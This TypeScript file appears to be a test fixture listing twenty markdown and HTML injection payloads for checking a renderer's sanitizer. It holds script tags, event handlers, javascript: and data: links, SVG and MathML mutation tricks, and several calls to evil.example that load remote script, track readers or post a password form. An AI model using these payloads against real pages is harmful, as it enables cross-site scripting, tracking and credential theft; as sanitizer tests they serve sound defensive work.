/** Twenty proposals of strangers. Each would set `window.attacked`, ask for a page of evil.example, or leave ours. */
export const attacks: readonly (readonly [name: string, markdown: string])[] = [
  ['a script', '<script>window.attacked = 1</script>'],
  ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
  ['an event handler of a picture', '<img src="x" onerror="window.attacked = 1">'],
  [
    'an event handler of a box',
    '<div onmouseover="window.attacked = 1" onfocus="window.attacked = 1" autofocus tabindex="0">Look</div>',
  ],
  ['a javascript: link', '[Look](javascript:window.attacked=1) <a href="javascript:window.attacked=1">here</a>'],
  [
    'a javascript: link in pieces',
    '<a href="java&#9;script:window.attacked=1">Look</a> <a href="&#106;avascript:window.attacked=1">here</a>',
  ],
  [
    'a data: link',
    '[Look](data:text/html,<script>window.attacked=1</script>) <a href="data:text/html;base64,PHNjcmlwdD4=">here</a>',
  ],
  [
    'a picture that tells who reads',
    '![Look](https://evil.example/pixel.png)\n\n<img src="https://evil.example/p.png">',
  ],
  [
    'SVG with a script',
    '<svg onload="window.attacked = 1"><script>window.attacked = 1</script><a href="javascript:window.attacked=1"><text>Look</text></a></svg>',
  ],
  [
    'SVG that animates a link',
    '<svg><animate attributeName="href" values="javascript:window.attacked=1"/><use href="https://evil.example/x.svg#y"/></svg>',
  ],
  [
    'MathML that hides a tag',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked=1&gt;">',
  ],
  [
    'a stylesheet',
    '<style>body { background: url(https://evil.example/x); display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  ],
  [
    'a style of one element',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">Log in again</p>',
  ],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a base address', '<base href="https://evil.example/"><a href="x">Look</a>'],
  [
    'frames',
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.attacked=1</script>"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  ],
  [
    'a form',
    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:window.attacked=1">Go</button></form>',
  ],
  ['an end of the page', '</div></main></body></html><script>window.attacked = 1</script>'],
  [
    'an end of a script',
    '</script><script>window.attacked = 1</script> ]]> --> <!--<script>window.attacked=1</script>',
  ],
  [
    'a title and a list that is none',
    '<title><script>window.attacked=1</script></title><li>Look<noscript><p title="</noscript><img src=x onerror=window.attacked=1>">',
  ],
];
